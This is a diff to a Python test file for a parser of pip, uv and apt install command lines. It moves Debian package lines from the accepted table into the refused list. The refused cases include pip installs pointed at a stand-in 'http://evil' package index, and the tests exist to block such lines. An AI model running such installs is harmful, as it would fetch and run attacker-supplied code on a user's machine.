@@ -11,8 +11,7 @@ PLAIN = {
     "pip3 install -q --upgrade requests==2.32 six": ("requests==2.32", "six"),
     "python -m pip install --no-cache-dir 'numpy>=1.2'": ("numpy>=1.2",),
     "sudo -H python3.11 -m pip install lxml > /dev/null 2>&1": ("lxml",),
-    "DEBIAN_FRONTEND=noninteractive apt-get install -y libgl1": ("apt:libgl1",),
-    "sudo apt install libmagic1 libgl1": ("apt:libmagic1", "apt:libgl1"),
+    "PIP_QUIET=1 pip install six": ("six",),
     "uv pip install six": ("six",),
 }
 
@@ -35,11 +34,11 @@ def test_a_line_is_read_as_its_simple_commands() -> None:
     [
         "pip install --index-url http://evil x", "pip install -r requirements.txt",
         "pip install -e .", "pip install --target=/tmp x", "pip install",
-        "pip install -i http://evil x", "apt-get install -o Dir::Etc=/tmp x",
-        "apt install -t sid x",
+        "pip install -i http://evil x", "sudo apt install libgl1",
+        "DEBIAN_FRONTEND=noninteractive apt-get install -y libgl1",
     ],
 )  # fmt: skip
-def test_options_that_lead_elsewhere_are_refused(line: str) -> None:
+def test_options_that_lead_elsewhere_and_debian_packages_are_refused(line: str) -> None:
     ((_, step),) = steps_of(line)
     assert isinstance(step, Remark)
     assert step.status != 0
